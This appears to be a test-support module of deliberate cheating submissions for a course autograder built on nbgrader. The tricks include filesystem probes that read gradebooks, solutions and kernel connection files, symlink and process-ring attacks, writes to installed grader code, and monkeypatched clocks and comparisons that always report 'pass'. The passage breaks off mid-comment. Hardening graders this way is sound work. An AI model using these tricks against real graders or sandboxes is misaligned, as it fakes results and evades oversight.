"""Submissions that try to score the measured points without earning them, as a determined learner would.

    >>> notebook, files = build_attack("lab12_capstone", "grade_replaced")

Each attack starts from the reference solution and changes what a learner controls: the answer
cells (their source, and cells added or deleted) and the files handed in beside the notebook.
``tests/test_labs.py`` runs them through real ``nbgrader autograde`` and expects zero on every
graded cell (all of them are decided outside the kernel). Every attack hands in a trimmed notebook
(the read-only cells that train or compile deleted), as a learner may. Every lab but the capstone
gets ``anything``: each answer an object equal to anything, with torch's, numpy's and math's
comparisons and the lab's check helpers replaced. Some attacks are (also) wrong answers, or right
answers in a kernel that dies: each must score zero on the cells that ``FAILS`` names and full
marks on the others.
"""

from __future__ import annotations

import ast

import nbformat
from nbformat.v4 import new_code_cell
from perflab.grading import CHECKED_CELLS
from perflab.grading.course import LAB_NAMES, REPO
from perflab.grading.nbgrader import _clean

# A comparison or grade that says "pass" to whoever asks in the kernel.
FAKE_PASS = """
class _Pass:
    passed, status, reasons, speedup, interval = True, "pass", (), 9.9, (9.8, 10.0)
    def __getattr__(self, name):
        return 9.9
    def __repr__(self):
        return "PASS: 9.9x"
"""
SLOW_CLOCK = """
import time
_real_clock, _start = time.perf_counter, time.perf_counter()
time.perf_counter = lambda: _start + (_real_clock() - _start) / 5   # a clock that runs 5x slow
"""


# Everything of the course an answer cell can find: every notebook, database, JSON file and nbgrader configuration
# it can see outside its own folder, the interpreter's, the data cache and its kernel's connection file (named on its
# command line), and the course's folders where they would be. The walk does not enter the granted folders (the
# interpreter's, the operating system's, the data cache: hundreds of thousands of files, all skipped anyway), so its
# work is what the sandbox holds beyond them, not the size of the installation: a second or so on any machine.
LEAK_PROBE = """
import os
import sys

_own, _leaks = os.getcwd(), []
_granted = tuple(os.path.realpath(p) + "/" for p in {sys.prefix, sys.base_prefix, "/usr", os.environ["PERFLAB_DATA"]})
_walk_errors = []
for _root, _dirs, _files in os.walk("/", onerror=_walk_errors.append):
    _dirs[:] = [
        d for d in _dirs
        if os.path.join(_root, d) not in ("/proc", "/sys", "/dev")
        and not (os.path.realpath(os.path.join(_root, d)) + "/").startswith(_granted)
    ]
    for _name in _files:
        _path = os.path.join(_root, _name)
        if _path.startswith(_own + "/") or os.path.realpath(_path).startswith(_granted) or _path in sys.argv:
            continue
        if _name.endswith((".ipynb", ".db", ".json")) or _name == "nbgrader_config.py":
            try:
                with open(_path, "rb") as _file:
                    _leaks.append(f"{_path}: {_file.read(300)!r}")
            except OSError as _error:
                _leaks.append(f"{_path}: {_error}")
for _guess in ("../../../gradebook.db", "../../../solutions", "../../../source", "../../../submitted",
               "../../../.perflab-grading", "../../../nbgrader_config.py", "/root", "/home"):
    try:
        _beside = [  # what a folder holds besides the way to the interpreter's folders
            _entry for _entry in (os.listdir(_guess) if os.path.isdir(_guess) else [])
            if not any(_path.startswith(os.path.realpath(os.path.join(_guess, _entry)) + "/") for _path in _granted)
        ]
        if _beside:
            _leaks.append(f"{_guess}: {_beside}")
        elif os.path.isfile(_guess):
            _leaks.append(f"{_guess}: {open(_guess, 'rb').read(300)!r}")
    except OSError as _error:  # something there that the probe may not read is something there all the same
        _leaks.append(f"{_guess}: {_error}")
# A folder the walk could not list is there all the same: a grant the probe does not know of, or a leak.
_leaks += [f"{_error.filename}: {_error}" for _error in _walk_errors if _error.filename not in ("/proc", "/sys", "/dev")]
print("leak probe found:", _leaks)
"""
# Links in the kernel's folder that nbgrader's later steps (chmod, copying into feedback) would follow.
LINKS = """
import os

os.symlink("../../../gradebook.db", "notes.txt")
os.symlink("../../../solutions", "solutions")
os.mkfifo("pipe")
for _target in ("../../../gradebook.db", "/usr/lib/os-release"):
    try:
        os.link(_target, "hard_" + os.path.basename(_target))
    except OSError as _error:
        print("no hard link:", _error)
"""
# The SIGCONT ring: three processes, each burning CPU and waking the others, so that stopping them one at a time
# never stops them all; only in the grader's child (not in the notebook's kernel).
SIGCONT_RING = """
import os
import signal
import sys
import time

if "ipykernel" not in sys.modules:
    for _ in range(3):
        if os.fork() == 0:
            while True:
                os.killpg(0, signal.SIGCONT)   # every process of the group, the child's main one included
                _deadline = time.process_time() + 0.01
                while time.process_time() < _deadline:
                    pass
"""


# Every answer an object equal to anything, whose calls, attributes and items are itself and whose differences are
# 0; and the comparisons the tests use (torch's, numpy's, math's, the lab's check helpers) replaced by ones that always
# pass. Put at the top of every answer cell (a %%writefile answer's module too), so each cell replaces the helpers
# defined by then.
ANYTHING = """
import math as _math

import numpy as _numpy
import torch as _torch
import torch.testing as _testing


class _Anything:
    def __eq__(self, other):
        return True

    __le__ = __ge__ = __eq__

    def __ne__(self, other):
        return False

    __lt__ = __gt__ = __ne__

    def __hash__(self):
        return 0

    def __call__(self, *args, **kwargs):
        return self

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self

    def __getitem__(self, key):
        return self

    def __iter__(self):
        return iter(())

    def __len__(self):
        return 0

    def __float__(self):
        return 0.0

    def __int__(self):
        return 0

    def __abs__(self):
        return 0.0

    def __sub__(self, other):
        return 0.0

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__

    def __contains__(self, item):
        return True

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False


def _passes(*args, **kwargs):
    return True


def _silent(*args, **kwargs):
    return None


_torch.allclose = _torch.equal = _math.isclose = _numpy.allclose = _numpy.isclose = _numpy.array_equal = _passes
_testing.assert_close = _numpy.testing.assert_allclose = _silent
for _name, _value in list(globals().items()):
    if callable(_value) and _name.startswith(("check_", "expect_", "assert_")):
        globals()[_name] = _silent
"""
# A cell added after lab 01's first graded cell that kills the kernel: the cells the kernel never ran are graded all
# the same, outside it (the leak attack ends with it, so that one grading shows both).
KERNEL_CRASH = {"after:test_time_it": "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)\n"}


def _defined_names(source: str) -> list[str]:
    """The names a cell defines at its top level: functions, classes and assigned names."""
    tree = ast.parse(source)
    names = []
    for node in tree.body:
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
            names.append(node.name)
        elif isinstance(node, (ast.Assign, ast.AnnAssign)):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            names += [name.id for target in targets for name in ast.walk(target) if isinstance(name, ast.Name)]
    return list(dict.fromkeys(names))


def anything_answers(lab: str) -> dict[str, str]:
    """Each answer cell of ``lab`` (as the reference solution writes it) with every name it defines bound to an
    object equal to anything, after the comparisons are replaced (``ANYTHING``)."""
    notebook = nbformat.read(REPO / "solutions" / lab / f"{lab}.ipynb", as_version=4)
    answers = {}
    for cell in notebook.cells:
        if cell.cell_type != "code" or not cell.metadata.get("nbgrader", {}).get("solution"):
            continue
        first, _, body = _clean(cell.source).partition("\n")
        magic = first + "\n" if first.startswith("%%writefile") else ""
        python = body if magic else _clean(cell.source)
        bound = "".join(f"{name} = _Anything()\n" for name in _defined_names(python))
        answers[_grade_id(cell)] = magic + ANYTHING + bound
    return answers


def _grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _set(notebook, grade_id: str, source: str) -> None:
    next(cell for cell in notebook.cells if _grade_id(cell) == grade_id).source = source


# A lazy lab 06 answer: the step only records its inputs and returns a stand-in for the loss; the real eager step
# runs when the loss is read (float, item) or the block's parameters are asked for, after the grader's clock stopped.
LAZY_FIXED_BLOCK = """
class FixedBlock(PlantedBlock):
    pending = []  # training steps left for later, in order

    @staticmethod
    def finish_pending():
        with torch.enable_grad():  # the grader may ask for the parameters under no_grad
            while FixedBlock.pending:
                FixedBlock.pending.pop(0)()

    def forward(self, x):
        y = x * self.gain + self.shift
        y = y * (self.limit / y.abs().amax().detach()).clamp(max=1.0)
        y = F.gelu(y)
        spread = y.var()
        y = torch.where(spread > self.spread_limit, y / spread.sqrt(), y)
        active = y > 0
        y = y - (y * active).sum() / active.sum()
        return x + torch.sigmoid(self.gate) * torch.tanh(y)

    def parameters(self, recurse=True):
        FixedBlock.finish_pending()
        return super().parameters(recurse)
"""
LAZY_COMPILED_TRAINING_STEP = """
class LazyLoss:
    value = None

    def settled(self):
        FixedBlock.finish_pending()
        return self.value

    def __float__(self):
        return float(self.settled())

    def item(self):
        return self.settled().item()


def compiled_training_step(model, optimizer):
    eager_step = eager_training_step(model, optimizer)

    def step(inputs, targets):
        loss = LazyLoss()

        def run():
            loss.value = eager_step(inputs, targets)

        FixedBlock.pending.append(run)
        return loss

    return step
"""


LAB01 = {
    # Reads what it can find of the course (solutions, gradebook, other submissions) into its own output, and leaves
    # links to the gradebook and the sources, a FIFO and hard links for nbgrader to follow; then kills its kernel.
    "leak": {"time_it": LEAK_PROBE + LINKS, **KERNEL_CRASH},
}

LAB02 = {
    # The kernel's clock and perflab.compare lie; preprocess_fast is the original, no faster.
    "patched_instruments": {
        "preprocess_fast": FAKE_PASS
        + SLOW_CLOCK
        + """
import perflab
perflab.compare = lambda *args, **kwargs: _Pass()


def preprocess_fast(image, index):
    return preprocess(image, index)
"""
    },
    # A verdict far over a pipe's 64 KiB: the reason the grader gives carries the learner's 100,000-character message.
    "huge_message": {"preprocess_fast": 'def preprocess_fast(image, index):\n    raise ValueError("x" * 100_000)\n'},
    # Results from a table instead of training: instant, and wrong for the grader's seeds.
    "fake_results": {
        "preprocess_fast": """
def preprocess_fast(image, index):
    return preprocess(image, index)


def run_pipeline(steps=STEPS, transform=preprocess, seed=0):
    return [2.3] * steps, 0
"""
    },
}

LAB03 = {
    # Honest but slow: each crop built row by row in Python; the kernel's meter is replaced too.
    "row_by_row": {
        "batch_crop_flip": FAKE_PASS
        + """
measure_against_ceiling = lambda *args, **kwargs: type("Fake", (), {"share": lambda self, name: 1.0})()


def batch_crop_flip(images, generator):
    tops = torch.randint(0, 5, (len(images),), generator=generator).tolist()
    lefts = torch.randint(0, 5, (len(images),), generator=generator).tolist()
    flips = (torch.rand(len(images), generator=generator) < 0.5).tolist()
    out = []
    for image, top, left, flip in zip(images, tops, lefts, flips):
        crop = torch.stack([image[:, top + row, left:left + 32] for row in range(32)], dim=1)
        out.append(crop.flip(-1) if flip else crop)
    return torch.stack(out)
"""
    },
    # The first epoch made once, then replayed for every seed: no work per batch at all.
    "replayed_epochs": {
        "fast_epoch": """
_replay = []


def fast_epoch(images, labels, *, batch_size, seed):
    if not _replay:
        generator = torch.Generator().manual_seed(seed)
        order = torch.randperm(len(labels), generator=generator).to(images.device)
        for start in range(0, len(order), batch_size):
            index = order[start:start + batch_size]
            _replay.append((batch_crop_flip(images.index_select(0, index), generator), labels.index_select(0, index)))
    return iter(_replay)
"""
    },
}

LAB06 = {
    # Not compiled at all; in the grader's child it starts a SIGCONT ring to slow the other side down while frozen.
    "eager_with_hogs": {
        "compiled_training_step": FAKE_PASS
        + SIGCONT_RING
        + """
import perflab

perflab.compare = lambda *args, **kwargs: _Pass()


def compiled_training_step(model, optimizer):
    return eager_training_step(model, optimizer)
"""
    },
    # Times nothing: each step is queued and returns a loss object; the work runs when the grader reads the loss or
    # the block's parameters, after its clock has stopped.
    "lazy_step": {
        "fixed_block": LAZY_FIXED_BLOCK,
        "compiled_training_step": LAZY_COMPILED_TRAINING_STEP,
    },
    # Fast because it skips the backward pass and the update: the losses stop falling.
    "no_update": {
        "compiled_training_step": """
def compiled_training_step(model, optimizer):
    compiled = torch.compile(model, fullgraph=True)

    def step(inputs, targets):
        with torch.no_grad():
            return F.mse_loss(compiled(inputs), targets)
    return step
"""
    },
}

# Lab 12: every configuration the naive one (none of them an answer) unless the attack says otherwise.
NAIVE_CONFIGS = """
data_config = replace(NAIVE, name="decode once, no syncs")
batch_config = replace(NAIVE, name="batch 64")
amp_config = replace(NAIVE, name="bf16")
ckpt_config = replace(NAIVE, name="checkpointed")
final_config = replace(NAIVE, name="final")
KEEP_AMP = False
"""
TOO_SLOW = 'final_config = replace(NAIVE, name="final", log_every=100, python_metrics=False)\n'
LAB12 = {
    "grade_replaced": FAKE_PASS
    + """
import perflab.capstone
perflab.capstone.grade = lambda *args, **kwargs: _Pass()
""",
    "popen_replaced": """
import io
import json
import subprocess


class _Popen:
    def __init__(self, *args, **kwargs):
        self.stdin, self.returncode = io.StringIO(), 0
        self.stderr = io.StringIO("")
        self.stdout = io.StringIO(json.dumps({"status": "pass", "passed": True, "reasons": [], "speedup": 9.9}))

    def wait(self, timeout=None):
        return 0


subprocess.Popen = _Popen
""",
    "clock_patched": FAKE_PASS
    + SLOW_CLOCK
    + """
time.monotonic = time.perf_counter
import perflab.train
perflab.compare = lambda *args, **kwargs: _Pass()
perflab.train.train = lambda *args, **kwargs: _Pass()
""",
    "shadow_module": "",  # the files below do it
    # Another task: smaller, easier images, a wider stem, a validation set of the notebook's own; a batch of 512.
    "workload_reassigned": """
import os
import pickle
import numpy as np
from perflab.models import ResNetConfig

os.makedirs("easy_cifar", exist_ok=True)
for name, count in (("data_batch_1", 5000), ("test_batch", 1000)):   # one solid colour per class: trivially easy
    labels = [i % 10 for i in range(count)]
    pixels = np.repeat(np.array(labels, dtype=np.uint8)[:, None] * 25, 3072, axis=1)
    with open(os.path.join("easy_cifar", name), "wb") as file:
        pickle.dump({b"data": pixels, b"labels": labels}, file)
workload = replace(workload, image_size=16, val_per_class=10, cifar10_dir="easy_cifar",
                   model=ResNetConfig(stem_stride=1))
"""
    # Fast on every machine (the reference's speed-ups and a batch of 512), so the grader reaches its accuracy check: a
    # machine three times slower measured 1.84x for cached batches of 512 alone, a failure on speed, not on accuracy.
    + 'final_config = replace(NAIVE, name="final", pipeline="cached", batch_size=512, channels_last=True,'
    + " log_every=100, python_metrics=False)\n",
    "memory_pipeline": 'final_config = replace(NAIVE, name="final", pipeline="memory", batch_size=64, log_every=50)\n',
    # Appends to perflab's installed source and writes a sitecustomize.py: read-only in the sandbox.
    "writes_grader": TOO_SLOW
    + """
import os
import sysconfig

import perflab.capstone

for path, text in ((perflab.capstone.__file__, "\\nMIN_SPEEDUP = 1.0\\n"),
                   (os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"),
                    "import perflab.capstone\\nperflab.capstone.MIN_SPEEDUP = 1.0\\n")):
    try:
        with open(path, "a") as file:
            file.write(text)
        print("wrote", path)
    except OSError as error:
        print("could not write:", error)
""",
    "too_slow": TOO_SLOW,
    # Configurations that would fork 4096 workers, ask for ~120 GB, or carry 100,000 characters into every message.
    "unbounded": """
data_config = replace(NAIVE, name="x" * 100_000, pipeline="cached", log_every=50)
batch_config = replace(NAIVE, name="batch", pipeline="cached", batch_size=64, num_workers=4096)
ckpt_config = replace(batch_config, name="checkpointed", checkpoint_blocks=True, batch_size=10**7)
final_config = replace(NAIVE, name="final", pipeline="cached", batch_size=64, accumulation_steps=10**6)
""",
    # Each hidden test sees other configurations: a fast batch_config for part 3, a slowed-down one for part 4
    # (so that amp_config looks faster or slower at will), and an amp_config that changes more than the dtype.
    "inconsistent": 'batch_config = replace(NAIVE, name="batch 64", pipeline="cached", batch_size=64, log_every=50)\n',
}
# The "inconsistent" attack's later answers: after part 3 has handed in its batch_config, another one.
INCONSISTENT_LATER = {
    "amp_config": "batch_config = replace(batch_config, num_workers=2, log_every=1)\n"
    'amp_config = replace(batch_config, name="bf16", amp_dtype="bfloat16", log_every=50)',
    "ckpt_config": 'ckpt_config = replace(batch_config, name="ckpt", checkpoint_blocks=True, batch_size=128, lr=0.5)',
}
SHADOW_PERFLAB = '''"""Not the course's perflab: a package of the same name beside the notebook, which the kernel imports first."""
import os
import sys

_real = next(os.path.join(p, "perflab") for p in sys.path
             if p and os.path.abspath(p) != os.getcwd() and os.path.isfile(os.path.join(p, "perflab", "capstone.py")))
__path__.append(_real)  # the real submodules, under this package
exec(open(os.path.join(_real, "__init__.py")).read())


class _Pass:
    passed, status, reasons, speedup = True, "pass", (), 9.9


import perflab.capstone  # noqa: E402

perflab.capstone.grade = lambda *args, **kwargs: _Pass()
'''
# Lab 09: not tricks but wrong answers, which its checks must catch. Each keeps the reference's shards.
_ZERO1_SHARD = """%%writefile {work / "zero1.py"}
import math

import torch
import torch.distributed as dist

from problem import make_optimizer


class ZeRO1:
    def __init__(self, parameters, lr):
        self.parameters = [p for p in parameters if p.requires_grad]
        self.rank, self.world_size = dist.get_rank(), dist.get_world_size()
        total = sum(p.numel() for p in self.parameters)
        self.shard_size = math.ceil(total / self.world_size)
        self.start = min(self.rank * self.shard_size, total)
        self.end = min(self.start + self.shard_size, total)
        flat = torch.cat([p.detach().reshape(-1) for p in self.parameters])
        self.shard = torch.nn.Parameter(flat[self.start:self.end].clone())
        self.optimizer = make_optimizer([self.shard], lr)

    def zero_grad(self):
        for parameter in self.parameters:
            parameter.grad = None
"""
LAB09 = {
    # Two wrong answers in one submission, each caught by its own test (one lab 09 grading costs half a minute):
    # it trains DDP's way, with a whole optimizer on every rank, and steps a shard's optimizer beside it as a
    # decoy (`self.optimizer` holds 1/N of the state, the rank all of it); and it sums the gradients instead of
    # averaging them, which AdamW's update hardly notices, since it divides by the gradients' own scale.
    "sum_and_decoy": {
        "zero1": _ZERO1_SHARD
        + """
    @torch.no_grad()
    def step(self):
        if not hasattr(self, "_everything"):
            self._everything = make_optimizer(self.parameters, self.optimizer.defaults["lr"])
        for parameter in self.parameters:
            dist.all_reduce(parameter.grad)  # the sum over ranks, never divided by their number
        self._everything.step()
        self.shard.grad = torch.zeros_like(self.shard)
        self.optimizer.step()
"""
    },
}
# Lab 10: the course's grader keeps only the kernel cell's @triton.jit functions and has Triton compile them.
SDPA_KERNEL = """
import torch
import torch.nn.functional as F
from triton.runtime import interpreter


@triton.jit
def flash_forward_kernel(Q, K, V, O, LSE, seq_len, scale,
                         HEAD_DIM: tl.constexpr, BLOCK_M: tl.constexpr, BLOCK_N: tl.constexpr, CAUSAL: tl.constexpr):
    tl.store(O, torch.nn.functional.scaled_dot_product_attention(Q, K, V))  # torch inside the kernel


def _sdpa_forward(q, k, v, causal=False):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
    if causal:
        scores = scores.masked_fill(torch.ones_like(scores, dtype=torch.bool).triu(1), float("-inf"))
    return F.scaled_dot_product_attention(q, k, v, is_causal=causal), torch.logsumexp(scores, dim=-1)


# The launcher and the interpreter, patched: every launch is SDPA, and the tile count reads half.
flash_forward = _sdpa_forward
interpreter.InterpretedFunction.__getitem__ = lambda self, grid: lambda q, k, v, o, lse, *rest, CAUSAL, **kw: None
interpreter.interpreter_builder.create_dot = lambda *args, **kwargs: None
"""
NO_SKIP_KERNEL = """
@triton.jit
def flash_forward_kernel(Q, K, V, O, LSE, seq_len, scale,
                         HEAD_DIM: tl.constexpr, BLOCK_M: tl.constexpr, BLOCK_N: tl.constexpr, CAUSAL: tl.constexpr):
    query_tile = tl.program_id(0)
    head = tl.program_id(1)
    rows = query_tile * BLOCK_M + tl.arange(0, BLOCK_M)
    dims = tl.arange(0, HEAD_DIM)
    head_start = head * seq_len * HEAD_DIM
    q = tl.load(Q + head_start + rows[:, None] * HEAD_DIM + dims[None, :], mask=rows[:, None] < seq_len, other=0.0)
    row_max = tl.full((BLOCK_M,), float("-inf"), tl.float32)
    row_sum = tl.zeros((BLOCK_M,), tl.float32)
    accumulator = tl.zeros((BLOCK_M, HEAD_DIM), tl.float32)
    for key_start in range(0, seq_len, BLOCK_N):  # every tile, the masked ones too: right, and twice the work
        cols = key_start + tl.arange(0, BLOCK_N)
        k = tl.load(K + head_start + cols[:, None] * HEAD_DIM + dims[None, :], mask=cols[:, None] < seq_len, other=0.0)
        v = tl.load(V + head_start + cols[:, None] * HEAD_DIM + dims[None, :], mask=cols[:, None] < seq_len, other=0.0)
        scores = tl.dot(q, tl.trans(k), input_precision="ieee") * scale
        visible = cols[None, :] < seq_len
        if CAUSAL:
            visible = visible & (cols[None, :] <= rows[:, None])
        scores = tl.where(visible, scores, float("-inf"))
        new_max = tl.maximum(row_max, tl.max(scores, 1))
        rescale = tl.exp(row_max - new_max)
        weights = tl.exp(scores - new_max[:, None])
        row_sum = row_sum * rescale + tl.sum(weights, 1)
        # V cast up to P's float32, not P down to V's type: more accurate, but no tensor core takes float32 with "ieee"
        accumulator = accumulator * rescale[:, None] + tl.dot(weights, v.to(tl.float32), input_precision="ieee")
        row_max = new_max
    tl.store(O + head_start + rows[:, None] * HEAD_DIM + dims[None, :], accumulator / row_sum[:, None],
             mask=rows[:, None] < seq_len)
    tl.store(LSE + head * seq_len + rows, row_max + tl.log(row_sum), mask=rows < seq_len)
"""
# Right gradients from whole T x T matrices, then the process's peak memory reset, to hide them.
DENSE_BACKWARD = """
def attention_backward(q, k, v, o, lse, d_o, causal, tile_size=128):
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
    if causal:
        scores = scores.masked_fill(torch.ones_like(scores, dtype=torch.bool).triu(1), float("-inf"))
    probabilities = torch.exp(scores - lse.unsqueeze(-1))
    d_scores = probabilities * (d_o @ v.transpose(-2, -1) - (d_o * o).sum(-1, keepdim=True)) / math.sqrt(q.size(-1))
    gradients = d_scores @ k, d_scores.transpose(-2, -1) @ q, probabilities.transpose(-2, -1) @ d_o
    try:
        with open("/proc/self/clear_refs", "w") as clear_refs:
            clear_refs.write("5")
    except OSError as error:
        print("the peak stays:", error)
    return gradients
"""
# PyTorch's own attention under autograd: right gradients for the forward's o and lse, and its CPU backward is tiled.
SDPA_BACKWARD = """
def attention_backward(q, k, v, o, lse, d_o, causal, tile_size=128):
    q, k, v = (t.detach().requires_grad_() for t in (q, k, v))
    with torch.enable_grad():
        out = F.scaled_dot_product_attention(q, k, v, is_causal=causal)
    return torch.autograd.grad(out, (q, k, v), d_o)
"""
_LAB10_SOLUTION = {
    cell.metadata["nbgrader"]["grade_id"]: cell.source
    for cell in nbformat.read(REPO / "solutions/lab10_flash_triton/lab10_flash_triton.ipynb", as_version=4).cells
    if "nbgrader" in cell.metadata
}


def _lab10_variant(grade_id: str, *changes: tuple[str, str]) -> str:
    """Lab 10's solution cell ``grade_id`` with each (old, new) made: a wrong answer an edit or two away from it."""
    source = _LAB10_SOLUTION[grade_id]
    for old, new in changes:
        assert old in source, f"lab 10's solution cell {grade_id} no longer holds {old!r}"
        source = source.replace(old, new)
    return source


# Right values, wrong reads: the rows past seq_len are never stored, the scores of keys past it are masked after the
# read, so only where the kernel reads tells.
UNMASKED_Q_KERNEL = _lab10_variant(
    "flash_kernel", ("dims[None, :], mask=row_valid, other=0.0)", "dims[None, :])  # the rows past seq_len too")
)
UNMASKED_KV_KERNEL = _lab10_variant("flash_kernel", (", mask=key_valid, other=0.0)", ")"))
# Right with square tiles only: query tile i reads key tiles 0 ... i, which holds its last query only when BLOCK_N is
# at least BLOCK_M. And on bfloat16 inputs its scores are rounded to bfloat16, as a kernel that kept S in the inputs'
# type would have them: each off by up to 2**-8 of itself, up to half a unit where scores are in the hundreds.
SQUARE_TILES_KERNEL = _lab10_variant(
    "flash_kernel",
    ("tl.minimum((query_tile + 1) * BLOCK_M, seq_len)", "tl.minimum((query_tile + 1) * BLOCK_N, seq_len)"),
    (
        'scores = tl.dot(q, tl.trans(k), input_precision="ieee") * scale',
        'scores = (tl.dot(q, tl.trans(k), input_precision="ieee") * scale).to(q.dtype).to(tl.float32)',
    ),
)
# Tiled, but the causal mask is made whole (T x T booleans, 16 MiB at T = 4096), and sliced per tile.
WHOLE_MASK_BACKWARD = _lab10_variant(
    "attention_backward",
    (
        "    dq, dk, dv = torch.zeros_like(q), torch.zeros_like(k), torch.zeros_like(v)\n",
        "    dq, dk, dv = torch.zeros_like(q), torch.zeros_like(k), torch.zeros_like(v)\n"
        "    future = torch.ones(length, length, dtype=torch.bool, device=q.device).triu(1) if causal else None\n",
    ),
    (
        'scores = scores.masked_fill(key_index > query_index, float("-inf"))',
        'scores = scores.masked_fill(future[q_start:q_end, k_start:k_end], float("-inf"))',
    ),
)
# The lab's old rule, "no tensor of T x T numbers": 128 queries at a time against every key, 2 MiB a tensor.
QUERY_ROWS_BACKWARD = _lab10_variant(
    "attention_backward",
    ("for k_start in range(0, keys_end, tile_size):", "for k_start in (0,):  # every key at once"),
    ("k_end = min(k_start + tile_size, keys_end)", "k_end = keys_end"),
)
# Tiled and right, but every key tile is computed when causal, those after the diagonal masked whole.
NO_SKIP_BACKWARD = _lab10_variant(
    "attention_backward",
    ("keys_end = q_end if causal else length", "keys_end = length"),
)
LAB10 = {
    # A kernel that calls torch, and module-level code that makes the launcher SDPA and the tile count lie; a backward
    # that is PyTorch's own attention under autograd.
    "sdpa_wrapper": {"flash_kernel": SDPA_KERNEL, "attention_backward": SDPA_BACKWARD},
    # Wrong answers, two to a notebook, each caught by its own cell. A kernel that computes every tile, masked or
    # not, and casts V up on bfloat16 inputs, and a backward that holds T x T matrices and resets its peak memory.
    "dense": {"flash_kernel": NO_SKIP_KERNEL, "attention_backward": DENSE_BACKWARD},
    # A kernel that loads Q unmasked, and a backward with a T x T causal mask.
    "unmasked_q": {"flash_kernel": UNMASKED_Q_KERNEL, "attention_backward": WHOLE_MASK_BACKWARD},
    # A kernel that loads K and V unmasked, and a backward of 128 queries against every key.
    "unmasked_kv": {"flash_kernel": UNMASKED_KV_KERNEL, "attention_backward": QUERY_ROWS_BACKWARD},
    # A kernel right with square tiles only, which rounds its scores to bfloat16 on bfloat16 inputs, and a backward
    # that computes the causal tiles it should skip.
    "square_tiles": {"flash_kernel": SQUARE_TILES_KERNEL, "attention_backward": NO_SKIP_BACKWARD},
}
# Lab 11: the course's grader runs the megatron cell on ranks it starts, and reads their traffic and memory from outside.
_MEGATRON_HEAD = """%%writefile {work / "megatron.py"}
import torch
import torch.distributed as dist
import torch.nn.functional as F
from torch import nn


class ReduceFromParallelRegion(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        x = x.clone()
        dist.all_reduce(x)
        return x

    @staticmethod
    def backward(ctx, grad):
        return grad


class TensorParallelMLP(nn.Module):
    def __init__(self, up, down):
        super().__init__()
        self.up = ColumnParallelLinear(up)
        self.down = RowParallelLinear(down)

    def forward(self, x):
        return self.down(F.gelu(self.up(x)))
"""
_COPY_TO_PARALLEL = """

class CopyToParallelRegion(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        return x

    @staticmethod
    def backward(ctx, grad):
        grad = grad.clone()
        dist.all_reduce(grad)
        return grad
"""
# Each rank holds its block, but every forward all-gathers the whole weights (and the row-parallel layer's whole
# input) and computes the whole output: right results, the gathered weights kept for the backward, no all-reduce.
GATHERING_LAYERS = """

class _Gathered(torch.autograd.Function):
    @staticmethod
    def forward(ctx, block, dim):
        ctx.dim, ctx.size = dim, block.shape[dim]
        blocks = [torch.empty_like(block) for _ in range(dist.get_world_size())]
        dist.all_gather(blocks, block.contiguous())
        return torch.cat(blocks, dim=dim)

    @staticmethod
    def backward(ctx, grad):
        return grad.narrow(ctx.dim, dist.get_rank() * ctx.size, ctx.size), None


class ColumnParallelLinear(nn.Module):
    def __init__(self, init):
        super().__init__()
        part = init.out_features // dist.get_world_size()
        self.rows = slice(dist.get_rank() * part, (dist.get_rank() + 1) * part)
        self.weight = nn.Parameter(init.weight(rows=self.rows))
        self.bias = nn.Parameter(init.bias(self.rows))

    def forward(self, x):
        weight, bias = _Gathered.apply(self.weight, 0), _Gathered.apply(self.bias, 0)
        return F.linear(CopyToParallelRegion.apply(x), weight, bias)[:, self.rows]


class RowParallelLinear(nn.Module):
    def __init__(self, init):
        super().__init__()
        part = init.in_features // dist.get_world_size()
        self.weight = nn.Parameter(init.weight(cols=slice(dist.get_rank() * part, (dist.get_rank() + 1) * part)))
        self.bias = nn.Parameter(init.bias())

    def forward(self, x):
        return F.linear(_Gathered.apply(x, 1), _Gathered.apply(self.weight, 1), self.bias)
"""
MEGATRON_LAYERS = """

class ColumnParallelLinear(nn.Module):
    def __init__(self, init):
        super().__init__()
        part = init.out_features // dist.get_world_size()
        rows = slice(dist.get_rank() * part, (dist.get_rank() + 1) * part)
        self.weight = nn.Parameter(init.weight(rows=rows))
        self.bias = nn.Parameter(init.bias(rows))

    def forward(self, x):
        return F.linear(CopyToParallelRegion.apply(x), self.weight, self.bias)


class RowParallelLinear(nn.Module):
    def __init__(self, init):
        super().__init__()
        part = init.in_features // dist.get_world_size()
        self.weight = nn.Parameter(init.weight(cols=slice(dist.get_rank() * part, (dist.get_rank() + 1) * part)))
        self.bias = nn.Parameter(init.bias())

    def forward(self, x):
        return ReduceFromParallelRegion.apply(F.linear(x, self.weight)) + self.bias
"""
# f without its backward all-reduce: every forward is right, and so are the layers' own weight gradients; the
# gradient of the MLP's input holds this rank's share only, and every layer before the MLP trains on it.
SKIPPED_ALL_REDUCE = _COPY_TO_PARALLEL.replace(
    "        grad = grad.clone()\n        dist.all_reduce(grad)\n        return grad", "        return grad"
)
# The right layers, each sliced from the whole weight it asks init for: every rank makes both whole weights while it
# builds the MLP, and keeps a copy of its block only.
WHOLE_THEN_SLICED_LAYERS = """

class ColumnParallelLinear(nn.Module):
    def __init__(self, init):
        super().__init__()
        part = init.out_features // dist.get_world_size()
        rows = slice(dist.get_rank() * part, (dist.get_rank() + 1) * part)
        self.weight = nn.Parameter(init.weight()[rows].clone())
        self.bias = nn.Parameter(init.bias()[rows].clone())

    def forward(self, x):
        return F.linear(CopyToParallelRegion.apply(x), self.weight, self.bias)


class RowParallelLinear(nn.Module):
    def __init__(self, init):
        super().__init__()
        part = init.in_features // dist.get_world_size()
        cols = slice(dist.get_rank() * part, (dist.get_rank() + 1) * part)
        self.weight = nn.Parameter(init.weight()[:, cols].clone())
        self.bias = nn.Parameter(init.bias())

    def forward(self, x):
        return ReduceFromParallelRegion.apply(F.linear(x, self.weight)) + self.bias
"""
# The gathering layers, and 96 MiB touched when the module is imported, let go when the MLP whose memory is read
